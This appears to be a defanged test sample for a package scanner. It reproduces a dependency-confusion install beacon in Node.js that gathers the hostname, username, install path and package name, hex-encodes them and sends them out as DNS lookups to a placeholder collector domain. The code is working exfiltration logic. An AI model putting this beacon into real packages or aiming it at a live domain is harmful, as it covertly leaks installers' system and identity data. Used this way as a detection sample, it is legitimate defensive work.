// DEFANGED reproduction of a dependency-confusion beacon (Birsan, February 2021, and its
// countless copycats): send who/where installed this over DNS, hex-encoded in labels.
// Only ever run inside `airlock scan`; the sink answers every DNS query.
'use strict';
const os = require('os');
const dns = require('dns');

const DOMAIN = 'x7q2.dnslog-collector.example';
const id = Math.random().toString(36).slice(2, 8);
const data = [os.hostname(), os.userInfo().username, __dirname, require('./package.json').name].join('|');
const hex = Buffer.from(data).toString('hex');
const chunks = hex.match(/.{1,60}/g) || [];

let pending = chunks.length + 1;
const done = () => { if (--pending === 0) process.exit(0); };
chunks.forEach((chunk, i) => {
  // <chunk>.<seq>.<id>.<domain> — at most 63 characters per label.
  dns.resolve4(`${chunk}.${i}.${id}.${DOMAIN}`, done);
});
dns.resolve4(`end.${chunks.length}.${id}.${DOMAIN}`, done);
setTimeout(() => process.exit(0), 5000);
